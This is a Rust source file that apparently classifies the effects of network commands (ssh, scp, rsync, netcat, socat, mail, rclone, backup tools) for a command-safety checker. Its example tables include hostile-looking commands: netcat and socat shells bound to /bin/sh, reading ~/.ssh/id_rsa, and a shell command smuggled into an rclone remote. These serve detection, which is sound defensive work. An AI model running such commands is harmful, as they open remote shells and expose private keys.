//! Programs that reach into other machines: remote shells, copying, raw connections, mail.

use super::invocation::{Invocation, Outcome, Seen};
use super::table::{Operands, Spec, Style};
use crate::argument::Argument;
use crate::effects::Effects;
use crate::unclear::Why;

const SENDS: Effects = Effects::NETWORK_WRITE.and(Effects::SENDS_DATA);
const REMOTE_RUN: Effects = Effects::EXECUTES.and(Effects::NETWORK_WRITE);

pub(super) const TABLE: &[Spec] = &[
    Spec::new("ssh slogin autossh", Effects::NONE)
        .style(Style::Stops)
        .options("-46AaCfgKkMNnqsTtvXxYyG -V!help -E=write -BbcDeFIiJLlmOoPpQRSWw=")
        .operands(Operands::Text)
        .check(remote_shell)
        .examples(&[
            ("ssh host ls", "executes network-write"),
            ("ssh host", "executes network-write"),
            ("ssh -o ProxyCommand=x host", "executes network-write"),
            ("ssh -T git@github.com", "network-read"),
            ("ssh -T git@github.com ls", "executes network-write"),
            ("ssh -T -oBatchMode=yes git@gitlab.com", "network-read"),
            ("ssh -T -F f git@github.com", "executes network-write"),
            ("ssh host foo --help", "executes network-write"),
            ("ssh -G host", "reads"),
            ("ssh -G -F f host", "executes network-write"),
            ("ssh -Q cipher", "reads"),
            ("ssh -V", "reads"),
        ]),
    Spec::new("mosh et eternalterminal dbclient plink rsh rlogin rexec pdsh pssh parallel-ssh clush", REMOTE_RUN)
        .style(Style::Stops)
        .options("-46qvnXx -pilhw= --ssh=exec")
        .operands(Operands::Code)
        .examples(&[("mosh host", "executes network-write"), ("mosh --server=x host", "executes network-write unknown")]),
    Spec::new("sshpass", REMOTE_RUN)
        .style(Style::Stops)
        .options("-ev -fdpP=")
        .operands(Operands::Command(0))
        .examples(&[("sshpass -p pw ssh host", "executes network-write"), ("sshpass -V", "executes network-write unknown")]),
    Spec::new("scp pscp", Effects::NONE)
        .options("-346ABCpqRrTvO -cDFiJloPSX=")
        .operands(Operands::Text)
        .check(copies)
        .examples(&[
            ("scp a host:b", "reads network-write sends-data"),
            ("scp host:b a", "network-read writes"),
            ("scp -r a b", "reads writes"),
            ("scp -o ProxyCommand=x host:b a", "network-read writes executes"),
            ("scp -S x host:b a", "network-read writes executes"),
            ("scp -r host: a", "network-read writes unknown"),
        ]),
    Spec::new("sftp psftp ftp lftp-get tftp atftp ncftp ncftpput ncftpget telnet rcp", SENDS.and(Effects::WRITES))
        .operands(Operands::Text)
        .examples(&[
            ("sftp host", "network-write sends-data writes"),
            ("sftp -S x host", "network-write sends-data writes unknown"),
        ]),
    Spec::new("rsync openrsync", Effects::NONE)
        .options(
            "-vqcarRblLkKHpEXAogtUNODJSWxuymzhiPnCsd0468F -Me=exec -fTB@= --archive --verbose --quiet \
                --checksum --recursive \
             --relative --no-relative --backup --backup-dir= --suffix= --update --inplace --append \
             --append-verify \
             --dirs --links --copy-links --copy-unsafe-links --safe-links --munge-links --copy-dirlinks \
             --keep-dirlinks --hard-links --perms --executability --chmod= --acls --xattrs --owner --group \
             --devices \
             --specials --times --atimes --crtimes --omit-dir-times --omit-link-times --super --fake-super \
             --sparse \
             --preallocate --dry-run --whole-file --one-file-system --block-size= --existing --ignore-existing \
             --remove-source-files!deletes --del!deletes --delete!deletes --delete-before!deletes \
             --delete-during!deletes --delete-delay!deletes --delete-after!deletes --delete-excluded!deletes \
             --ignore-missing-args --delete-missing-args!deletes --ignore-errors --force!deletes --max-delete= \
             --max-size= --min-size= --partial --partial-dir= --delay-updates --prune-empty-dirs --numeric-ids \
             --usermap= --groupmap= --chown= --timeout= --contimeout= --ignore-times --size-only \
             --modify-window= \
             --temp-dir= --fuzzy --compare-dest= --copy-dest= --link-dest= --compress --compress-choice= \
             --compress-level= --skip-compress= --cvs-exclude --filter= --exclude= --exclude-from=read \
             --include= \
             --include-from=read --files-from=list --from0 --protect-args --secluded-args --old-args \
             --address= --port= \
             --sockopts= --blocking-io --stats --8-bit-output --human-readable --progress --itemize-changes \
             --out-format= --log-file=write --log-file-format= --password-file=read!secrets --list-only \
             --bwlimit= \
             --stop-after= --write-batch=write --only-write-batch=write --read-batch=read --protocol= --iconv= \
             --checksum-seed= --checksum-choice= --ipv4 --ipv6 --no-motd --info= --debug= --open-noatime \
             --mkpath \
             --no-recursive --no-perms --no-owner --no-group --no-times --no-links --no-compress \
             --no-inc-recursive \
             --no-o --no-g --no-p --no-t --no-r --no-l --no-D --no-implied-dirs --no-whole-file \
             --rsh=exec --rsync-path=exec --early-input=exec --remote-option=exec --daemon!system \
             --config=read!system",
        )
        .operands(Operands::Text)
        .check(synchronises)
        .examples(&[
            ("rsync -a a/ host:b/", "reads network-write sends-data"),
            ("rsync -a host:b/ a/", "network-read writes"),
            ("rsync -a a/ b/", "reads writes"),
            ("rsync --delete a/ b/", "reads writes deletes"),
            ("rsync -an --delete a/ b/", "reads"),
            ("rsync -n a/ host:b/", "reads network-read sends-data"),
            ("rsync -an -e x a/ host:b/", "reads network-read sends-data executes"),
            ("rsync a/", "reads"),
            ("rsync --rsh=x host:b/ a/", "network-read writes executes"),
            ("rsync -a host:~/ a/", "network-read writes unknown"),
        ]),
    Spec::new("ssh-keyscan", Effects::NETWORK_READ)
        .options("-46cDHqv -f=send -OpTt=")
        .operands(Operands::Text)
        .check(carries_nothing)
        .examples(&[("ssh-keyscan -t rsa github.com", "network-read"), ("ssh-keyscan -Z x", "network-read unknown"), ("ssh-keyscan -f list", "network-read sends-data")]),
    Spec::new("ssh-copy-id", SENDS.and(Effects::PERMISSIONS))
        .options("-fnsx -ipoFt=")
        .operands(Operands::Text)
        .examples(&[("ssh-copy-id host", "network-write sends-data permissions")]),
    Spec::new("nc netcat ncat nc.openbsd nc.traditional pwncat rustcat cryptcat", Effects::NONE)
        .options(
            "-46bCDdFhklnrStUuvzN -M= -IiOPpqsTVWwXGgmL= -o=write -x=!network-write -ce=exec --exec=exec \
                --sh-exec=exec --lua-exec=exec --listen \
             --keep-open --ssl --verbose --udp --source-port= --source= --wait= --idle-timeout= --recv-only \
             --send-only \
             --output=write --hex-dump=write --proxy= --nodns --broker --chat --allow= --allowfile=read \
             --max-conns= \
             --crlf --telnet --zero --ssl-cert=read --ssl-key=read --ssl-verify --unixsock --sctp \
             --no-shutdown",
        )
        .operands(Operands::Text)
        .check(raw_connection)
        .examples(&[
            ("nc -zv example.com 443", "network-read"),
            ("nc -zv example.com 20-1000", "network-read network-write"),
            ("nc -zv localhost 20-1000", "network-read"),
            ("nc example.com 80", "network-write sends-data"),
            ("nc -l 4444", "network-write sends-data"),
            ("nc -e /bin/sh example.com 80", "network-write sends-data executes"),
            ("nc -le /bin/sh 4444", "network-write sends-data executes"),
            ("ncat --listen --sh-exec=x 4444", "network-write sends-data executes"),
            ("nc -z -e x example.com 80", "network-read executes"),
        ]),
    Spec::new("socat filan procan", SENDS)
        .style(Style::Stops)
        .options("-uUdvxDsghV46 -btTlL=")
        .operands(Operands::Text)
        .check(joins_addresses)
        .examples(&[
            ("socat - TCP:example.com:80", "network-write sends-data"),
            ("socat TCP-LISTEN:80 EXEC:/bin/sh", "network-write sends-data executes"),
            ("socat TCP-LISTEN:80 SHELL", "network-write sends-data executes"),
            ("socat -u OPEN:a CREAT:b", "network-write sends-data writes"),
        ]),
    Spec::new("mail mailx Mail s-nail nail sendmail msmtp ssmtp swaks mutt neomutt sendemail mpack aerc \
        mailsend", SENDS)
        .options("-vnIN -bcsraAtifFSHeEuq= --* --subject= --cc= --to= --from= --server= --body= --attach=read \
            --header=")
        .operands(Operands::Text)
        .examples(&[
            ("mail -s hi a@example.com", "network-write sends-data"),
            ("swaks --to a@example.com --attach f", "network-write sends-data reads"),
        ]),
    Spec::new("wormhole magic-wormhole croc ffsend syncthing transfer send portal onionshare", SENDS.and(Effects::WRITES))
        .style(Style::Raw)
        .examples(&[("croc send f", "network-write sends-data writes")]),
    Spec::new("rclone", SENDS)
        .options(
            "-PvqniL -ul --progress --verbose=? --quiet --dry-run --interactive --exclude= --include= \
                --filter= \
             --filter-from=read --exclude-from=read --include-from=read --files-from=list --max-depth= \
             --max-age= \
             --min-age= --max-size= --min-size= --transfers= --checkers= --bwlimit= --stats= --log-level= \
             --fast-list \
             --checksum --size-only --update --human-readable --format= --separator= --recursive --json \
             --retries= \
             --timeout= --contimeout= --no-check-certificate --config=read!executes --password-command=exec",
        )
        .operands(Operands::Text)
        .check(rclone)
        .verbs(&[
            Spec::new("ls lsl lsd lsf lsjson size tree about check hashsum md5sum sha1sum cryptcheck", Effects::NETWORK_READ)
                .options("-R --dirs-only --files-only --hash= --one-way --no-modtime --stat")
                .operands(Operands::Text),
            Spec::new("cat", Effects::NETWORK_READ).options("--head= --tail= --offset= --count=").operands(Operands::Text),
            Spec::new("listremotes version help", Effects::READS).options("--long --check").operands(Operands::Text),
            Spec::new("copy copyto sync move moveto bisync copyurl", SENDS.and(Effects::WRITES)).operands(Operands::Text),
            Spec::new("delete purge cleanup rmdir rmdirs deletefile dedupe", SENDS.and(Effects::DELETES))
                .operands(Operands::Text),
            Spec::new("config", Effects::SECRETS.and(Effects::WRITES)).operands(Operands::Text),
            Spec::new("mount serve rcd nfsmount", SENDS.and(Effects::SYSTEM)).operands(Operands::Text),
            Spec::new("obscure reveal", Effects::SECRETS).operands(Operands::Text),
        ])
        .examples(&[
            ("rclone lsf remote:path", "network-read"),
            ("rclone copy a remote:b", "network-write sends-data writes"),
            ("rclone purge remote:b", "network-write sends-data deletes"),
            ("rclone config show", "secrets writes"),
            ("rclone ls r: --password-command x", "network-read executes"),
            ("rclone ls :sftp,ssh=x:", "network-read unknown"),
            ("rclone lsf 'my,ssh=\"sh -c x\":'", "network-read unknown"),
            ("rclone cat ~/.ssh/id_rsa", "network-read reads secrets"),
        ]),
    Spec::new("duplicity rdiff-backup borgmatic", SENDS.and(Effects::WRITES))
        .style(Style::Raw)
        .examples(&[("duplicity a file:///b", "network-write sends-data writes")]),
    Spec::new("restic borg kopia bup", SENDS.and(Effects::WRITES))
        .options("-v -r= --repo= --json")
        .operands(Operands::Text)
        .verbs(&[
            Spec::new("snapshots ls stats list info diff find check version help", Effects::NETWORK_READ)
                .options("--json --latest= --tag= --host= --path= --long --short")
                .operands(Operands::Text),
            Spec::new("forget prune delete rm", SENDS.and(Effects::DELETES)).operands(Operands::Text),
            Spec::new("restore extract recover dump", Effects::NETWORK_READ.and(Effects::WRITES)).operands(Operands::Text),
        ])
        .examples(&[
            ("restic snapshots --json", "network-read"),
            ("restic backup d", "network-write sends-data writes"),
            ("restic forget x", "network-write sends-data deletes"),
            ("restic restore x", "network-read writes"),
            ("restic --password-command x snapshots", "network-write sends-data writes unknown"),
        ]),
];

/// Names that are looked up travel to other machines: one known only at run time can carry data.
pub(super) fn carries_nothing<'a>(invocation: &Invocation<'_, 'a>, out: &mut Outcome<'a>) {
    let clear = |word: &Argument<'_>| word.literal || word.numeric;
    let values = invocation.options.iter().filter_map(|seen| seen.value.as_ref());
    if !invocation.operands.iter().chain(values).all(clear) {
        out.add(Effects::SENDS_DATA);
    }
}

/// Whether a word names this very machine.
pub(super) fn is_own_machine(word: &Argument<'_>) -> bool {
    let number = |text: &str| {
        text.starts_with("127.")
            && text.bytes().all(|byte| byte.is_ascii_digit() || matches!(byte, b'.' | b'/'))
    };
    word.known().is_some_and(|text| matches!(text, "localhost" | "::1") || number(text))
}

/// Operands that are addresses instead of files or names are fetched.
pub(super) fn addresses<'a>(invocation: &Invocation<'_, 'a>, out: &mut Outcome<'a>) {
    for operand in invocation.operands.iter().filter(|operand| operand.text.contains("://")) {
        out.fetches(*operand);
    }
}

/// A remote described on the spot can name a program to reach it with.
fn rclone<'a>(invocation: &Invocation<'_, 'a>, out: &mut Outcome<'a>) {
    carries_nothing(invocation, out);
    for word in &invocation.operands {
        let remote = word.text.split_once(':').map(|(remote, _)| remote);
        // A remote without a name, or with parameters, can name a program that leads to it.
        if remote.is_some_and(|remote| remote.is_empty() || remote.contains(',')) {
            out.doubt(Why::UnknownOperand, word.text, word.span);
        } else if remote.is_none()
            && invocation.chain.last().is_some_and(|verb| verb.does == Effects::NETWORK_READ)
        {
            out.reads(*word);
        }
    }
}

fn remote_shell<'a>(invocation: &Invocation<'_, 'a>, out: &mut Outcome<'a>) {
    let asks =
        invocation.has(&["G", "Q"]) && !invocation.has(&["F", "o", "O"]) && invocation.operands.len() < 2;
    if asks {
        out.add(Effects::READS);
    } else if greets(invocation) {
        out.add(Effects::NETWORK_READ);
    } else if !out.help {
        out.add(REMOTE_RUN);
    }
}

/// `ssh -T git@github.com`: a house of repositories that gives nobody a shell says whether it knows the key.
fn greets(invocation: &Invocation<'_, '_>) -> bool {
    const HOUSES: &[&str] = &["git@github.com", "git@gitlab.com", "git@bitbucket.org", "git@codeberg.org"];
    let host = match invocation.operands.as_slice() {
        [host] => host.known(),
        _ => None,
    };
    let waits = |value: Argument<'_>| {
        let time = value.known().and_then(|text| text.strip_prefix("ConnectTimeout="));
        value.known() == Some("BatchMode=yes")
            || time.is_some_and(|time| time.bytes().all(|byte| byte.is_ascii_digit()))
    };
    let plain = |seen: &Seen<'_>| match seen.name {
        "T" | "v" | "q" => true,
        "o" => seen.value.is_some_and(waits),
        _ => false,
    };
    host.is_some_and(|host| HOUSES.contains(&host)) && invocation.options.iter().all(plain)
}

/// Whether a name of scp or rsync stands for another machine: a colon before any slash.
fn is_remote(word: &Argument<'_>) -> bool {
    let before = word.text.split('/').next().unwrap_or_default();
    before.contains(':') || (!word.literal && before.contains('*'))
}

fn transfers<'a>(invocation: &Invocation<'_, 'a>, dry: bool, out: &mut Outcome<'a>) {
    let last = invocation.operands.len().saturating_sub(1);
    for (index, operand) in invocation.operands.iter().copied().enumerate() {
        let target = index == last && last > 0;
        match (is_remote(&operand), target) {
            (true, true) if dry => out.add(Effects::NETWORK_READ.and(Effects::SENDS_DATA)),
            (true, true) => out.add(SENDS),
            (true, false) => {
                out.add(Effects::NETWORK_READ);
                if takes_whole_home(operand.text) {
                    out.doubt(Why::UnknownOperand, operand.text, operand.span);
                }
            }
            (false, true) if dry => {}
            (false, true) => out.writes(operand),
            (false, false) => out.reads(operand),
        }
    }
}

/// `host:`, `host:~/`, `host:/`, `host:/home/dev`: all that somebody keeps on the other machine, keys among it.
fn takes_whole_home(name: &str) -> bool {
    let path = name.split_once(':').map_or("", |(_, path)| path);
    let parts = path.split('/').filter(|part| !matches!(*part, "" | "." | "*" | ".*" | "**"));
    let parts: Vec<&str> = parts.collect();
    match parts.as_slice() {
        [] | ["root" | "home" | "Users"] | ["home" | "Users", _] => true,
        [first] => first.starts_with('~'),
        parts => parts.contains(&".."),
    }
}

fn copies<'a>(invocation: &Invocation<'_, 'a>, out: &mut Outcome<'a>) {
    if invocation.has(&["S", "o", "F", "D"]) {
        out.executes();
    }
    transfers(invocation, false, out);
}

fn synchronises<'a>(invocation: &Invocation<'_, 'a>, out: &mut Outcome<'a>) {
    let dry = invocation.has(&["n", "--dry-run", "--list-only"]);
    transfers(invocation, dry, out);
    if dry {
        // What would be run to get there is run all the same, and logs are written.
        out.effects = out.effects.without(Effects::DELETES);
    }
}

fn raw_connection<'a>(invocation: &Invocation<'_, 'a>, out: &mut Outcome<'a>) {
    let scan = invocation.has(&["z", "--zero"]) && !invocation.has(&["l", "--listen"]);
    if scan {
        out.add(Effects::NETWORK_READ);
        carries_nothing(invocation, out);
        // One port is asked for whether it answers; many are gone through.
        if let Some((host, ports)) = invocation.operands.split_first()
            && ports.iter().any(|port| port.text.contains('-'))
            && !is_own_machine(host)
        {
            out.add(Effects::NETWORK_WRITE);
        }
    } else if !out.help {
        out.add(SENDS);
    }
}

fn joins_addresses<'a>(invocation: &Invocation<'_, 'a>, out: &mut Outcome<'a>) {
    for operand in &invocation.operands {
        let text = operand.text.to_ascii_uppercase();
        if ["EXEC", "SYSTEM", "SHELL"].iter().any(|word| text.contains(word)) || operand.known().is_none() {
            out.executes();
        }
        if ["CREAT", "FILE:", "GOPEN"].iter().any(|word| text.contains(word)) {
            out.add(Effects::WRITES);
        }
    }
}
